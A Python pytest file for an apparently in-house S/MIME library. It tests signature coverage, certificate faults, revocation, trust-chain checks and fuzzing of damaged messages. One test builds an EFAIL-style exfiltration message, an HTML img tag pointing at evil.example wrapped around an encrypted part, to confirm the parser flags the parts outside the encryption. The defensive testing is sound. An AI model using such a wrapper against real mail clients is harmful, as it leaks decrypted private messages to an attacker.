"""What is read of a message without a key, and the verdict on its signatures; never a wrong one, whatever is sent."""

from __future__ import annotations

import base64
from datetime import datetime, timedelta
from typing import Any

import pytest
from asn1crypto import cms, core
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from cryptography.x509.oid import ExtendedKeyUsageOID
from hypothesis import given, settings
from hypothesis import strategies as st

from fauxtune.core.mail.verdict import Setting, SignatureCode, Verdict, judge
from fauxtune.core.mail.visible_parts import MailReading, read
from fauxtune.core.pki import signed
from fauxtune.core.pki.cms import envelope
from tests.support.certificates import distinguished_name, self_signed
from tests.support.clock import NOW

TEXT = b"Content-Type: text/plain\r\n\r\nPay 100.\r\n"
BOB = "bob@contoso.example"
YEAR = timedelta(days=365)


class Signer:
    """An authority, and certificates of Bob that it issues."""

    def __init__(self, keys: list[RSAPrivateKey]) -> None:
        self._authority, self.key = keys[0], keys[1]
        self.root = self_signed(self._authority, "Root", authority=True, lifetime=20 * YEAR, begin=NOW - 10 * YEAR)

    def certificate(
        self, *, email: str = BOB, begin: datetime = NOW - YEAR, end: datetime = NOW + YEAR, signs: bool = True
    ) -> x509.Certificate:
        draft = self.draft(self.root, self.key, email=email, begin=begin, end=end, signs=signs)
        return draft.sign(self._authority, hashes.SHA256())

    def draft(
        self,
        issuer: x509.Certificate,
        key: RSAPrivateKey,
        *,
        email: str,
        begin: datetime = NOW - YEAR,
        end: datetime = NOW + YEAR,
        signs: bool = True,
    ) -> x509.CertificateBuilder:
        usage = x509.KeyUsage(signs, False, not signs, *(False,) * 6)
        subject = distinguished_name(email)
        return (
            x509.CertificateBuilder(issuer.subject, subject, key.public_key(), x509.random_serial_number())
            .not_valid_before(begin)
            .not_valid_after(end)
            .add_extension(x509.SubjectAlternativeName([x509.RFC822Name(email)]), critical=False)
            .add_extension(usage, critical=True)
            .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.EMAIL_PROTECTION]), critical=False)
        )

    def through(self, key: RSAPrivateKey, *, is_authority: bool) -> bytes:
        """A message of Bob whose certificate another certificate of the root issued."""
        constraints = x509.BasicConstraints(ca=is_authority, path_length=None)
        draft = self.draft(self.root, self.key, email="alice@contoso.example")
        between = draft.add_extension(constraints, critical=True).sign(self._authority, hashes.SHA256())
        certificate = self.draft(between, key, email=BOB).sign(self.key, hashes.SHA256())
        return opaque(signed.sign(TEXT, certificate=certificate, key=key, chain=[between]), "signed-data")

    def signature(self, content: bytes | None, *, over: bytes = b"", at: datetime | None = NOW, **kind: Any) -> bytes:
        """SignedData of content that is embedded, or of `over`."""
        certificate = self.certificate(**kind)
        attributes = {} if at is None else {"1.2.840.113549.1.9.5": core.UTCTime(at)}
        if content is not None:
            return signed.sign(content, certificate=certificate, key=self.key, attributes=attributes)
        return _detached(signed.sign(over, certificate=certificate, key=self.key, attributes=attributes))

    def clear(self, content: bytes = TEXT, **kind: Any) -> bytes:
        """A clear-signed entity."""
        return clear(content, self.signature(None, over=content, **kind))

    def verdict(self, raw: bytes, **setting: Any) -> Verdict:
        """The verdict on the only signature of a message from Bob."""
        (signature,) = read(raw).signatures
        given_ = {"sender": BOB, "date": NOW, "authorities": [self.root], "revoked_at": None, "now": NOW, **setting}
        return judge(signature, Setting(**given_))


def _detached(message: bytes) -> bytes:
    """The message without its content."""
    info = cms.ContentInfo.load(message)
    info["content"]["encap_content_info"] = {"content_type": "data"}
    return bytes(info.dump(force=True))


def clear(content: bytes, signature: bytes) -> bytes:
    boundary = f"s{len(content)}".encode()
    return (
        b"Content-Type: multipart/signed; protocol=x; boundary=%b\r\n\r\n--%b\r\n" % (boundary, boundary)
        + content
        + b"\r\n--%b\r\nContent-Type: application/pkcs7-signature\r\n" % boundary
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(signature)
        + b"\r\n--%b--\r\n" % boundary
    )


def opaque(data: bytes, kind: str) -> bytes:
    head = f"Content-Type: application/pkcs7-mime; smime-type={kind}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return head.encode() + base64.encodebytes(data)


def mixed(*parts: bytes) -> bytes:
    return (
        b"Content-Type: multipart/mixed; boundary=m\r\n\r\n"
        + b"".join(b"--m\r\n" + part + b"\r\n" for part in parts)
        + b"--m--\r\n"
    )


@pytest.fixture(scope="module")
def signer(raw_rsa_keys: list[RSAPrivateKey]) -> Signer:
    return Signer(raw_rsa_keys)


@pytest.fixture(scope="module")
def encrypted(raw_rsa_keys: list[RSAPrivateKey]) -> bytes:
    return opaque(envelope(TEXT, self_signed(raw_rsa_keys[2])), "enveloped-data")


@pytest.fixture(scope="module")
def signed_messages(signer: Signer, encrypted: bytes) -> list[bytes]:
    """Made once: each has a serial number of its own."""
    entity = signer.clear()
    return [entity, mixed(entity, encrypted), opaque(signer.signature(TEXT), "signed-data")]


def texts(reading: MailReading) -> list[tuple[str | None, list[int]]]:
    return [(part.text, sorted(part.signatures)) for part in reading.parts]


def test_a_signature_covers_its_own_part_and_no_other(signer: Signer, encrypted: bytes) -> None:
    for entity in (signer.clear(), opaque(signer.signature(TEXT), "signed-data")):
        assert texts(read(entity)) == [("Pay 100.\n", [0])]
        beside = read(mixed(b"\r\nPay Eve.", entity, b"\r\nAnd more."))
        assert texts(beside) == [("Pay Eve.", []), ("Pay 100.\n", [0]), ("And more.", [])]
        assert [part.text for part in beside.outside_signatures] == ["Pay Eve.", "And more."]
        twice = read(clear(entity, signer.signature(None, over=entity)))
        assert texts(twice) == [("Pay 100.\n", [0, 1])]
        assert [signature.problem for signature in twice.signatures] == ["", ""]
    around = read(signer.clear(encrypted))
    assert [(part.encrypted, sorted(part.signatures)) for part in around.parts] == [(True, [0])]
    leak = read(mixed(b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/', encrypted, b'\r\n">'))
    assert [part.encrypted for part in leak.parts] == [False, True, False]
    assert len(leak.outside_encryption) == 2


def test_line_ends_that_change_on_the_way_break_no_signature(signer: Signer) -> None:
    assert signer.verdict(signer.clear().replace(b"\r\n", b"\n")).code is SignatureCode.VALID
    assert signer.verdict(signer.clear().replace(b"Pay 100", b"Pay 900")).code is SignatureCode.BROKEN


@pytest.mark.parametrize(
    ("kind", "setting", "code"),
    [
        ({}, {}, SignatureCode.VALID),
        ({"end": NOW + timedelta(days=1)}, {"now": NOW + YEAR}, SignatureCode.EXPIRED_SINCE),
        ({"at": None}, {"date": None}, SignatureCode.NO_DATE),
        ({"signs": False}, {}, SignatureCode.NOT_FOR_SIGNING),
        ({"begin": NOW + timedelta(days=1)}, {}, SignatureCode.NOT_YET_VALID),
        ({"end": NOW - timedelta(days=1)}, {}, SignatureCode.EXPIRED),
        ({}, {"authorities": []}, SignatureCode.UNTRUSTED),
        ({"email": "carol@contoso.example"}, {}, SignatureCode.WRONG_ADDRESS),
        ({}, {"sender": None}, SignatureCode.WRONG_ADDRESS),
        ({}, {"revoked_at": NOW + timedelta(days=1)}, SignatureCode.REVOKED),
    ],
)
def test_each_fault_has_its_code(
    signer: Signer, kind: dict[str, Any], setting: dict[str, Any], code: SignatureCode
) -> None:
    verdict = signer.verdict(signer.clear(**kind), **setting)
    assert verdict.code is code, verdict.sentence
    assert verdict.counts == (code in {SignatureCode.VALID, SignatureCode.EXPIRED_SINCE})
    assert verdict.sentence.endswith(".")


def test_an_authority_of_the_same_name_is_not_ours(signer: Signer, raw_rsa_keys: list[RSAPrivateKey]) -> None:
    namesake = self_signed(raw_rsa_keys[3], "Root", authority=True)
    assert signer.verdict(signer.clear(), authorities=[namesake]).code is SignatureCode.UNTRUSTED


@pytest.mark.parametrize(("is_authority", "code"), [(True, SignatureCode.VALID), (False, SignatureCode.UNTRUSTED)])
def test_only_an_authority_can_have_issued_the_signers_certificate(
    signer: Signer, raw_rsa_keys: list[RSAPrivateKey], is_authority: bool, code: SignatureCode
) -> None:
    """Whoever has any certificate of the tenant could otherwise make one for every other address."""
    assert signer.verdict(signer.through(raw_rsa_keys[4], is_authority=is_authority)).code is code


def test_what_cannot_be_read_is_said_and_nothing_is_raised(signer: Signer) -> None:
    deep = TEXT
    for _ in range(20):
        deep = clear(deep, b"")
    assert "layers" in read(deep).problem
    assert "signatures" in read(mixed(*[clear(TEXT, b"x")] * 30)).problem
    assert "parts" in read(mixed(*[b"\r\nx"] * 600)).problem
    assert read(clear(TEXT, b"no CMS")).signatures[0].problem
    end = b"--s%d" % len(TEXT)
    three = clear(TEXT, b"x").replace(end + b"--", end + b"\r\n\r\nmore\r\n" + end + b"--")
    assert read(three).signatures[0].problem.endswith("not 3")
    broken = read(b"Content-Transfer-Encoding: base64\r\n\r\nabcde")
    assert (broken.parts[0].text, broken.parts[0].problem != "") == (None, True)
    long = read(b"\r\n" + b"x" * 300_000)
    assert (len(long.parts[0].text or ""), long.parts[0].is_cut) == (100_000, True)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(data=st.data())
def test_a_message_that_was_mutilated_is_read_and_its_text_is_never_verified(
    signer: Signer, signed_messages: list[bytes], data: st.DataObject
) -> None:
    whole = data.draw(st.sampled_from(signed_messages))
    place = data.draw(st.integers(0, len(whole) - 1))
    piece = data.draw(st.binary(max_size=3))
    cut = data.draw(st.integers(0, 3))
    mutilated = whole[:place] + piece + whole[place + cut :]
    reading = read(mutilated)
    for position, signature in enumerate(reading.signatures):
        setting = Setting(sender=BOB, date=NOW, authorities=[signer.root], revoked_at=None, now=NOW)
        if judge(signature, setting).counts:
            covered = [part.text for part in reading.parts if position in part.signatures]
            assert covered == ["Pay 100.\n"], mutilated


@settings(max_examples=200, deadline=None, derandomize=True)
@given(raw=st.binary(max_size=2000))
def test_any_bytes_are_read(raw: bytes) -> None:
    read(raw)
    read(b"Content-Type: multipart/signed; boundary=s\r\n\r\n--s\r\n" + raw + b"\r\n--s\r\n" + raw)
    read(b"Content-Type: application/pkcs7-mime\r\n\r\n" + raw)


def test_what_is_shown_of_a_part_has_no_characters_that_cannot_be_stored() -> None:
    raw = b"Content-Type: x\x00/\xff; name*=utf-8''a%00b\xed\xa0\x80\r\n\r\n"
    (part,) = read(raw).parts
    assert not set(part.media_type + part.name) & {"\x00", "\udcff"}
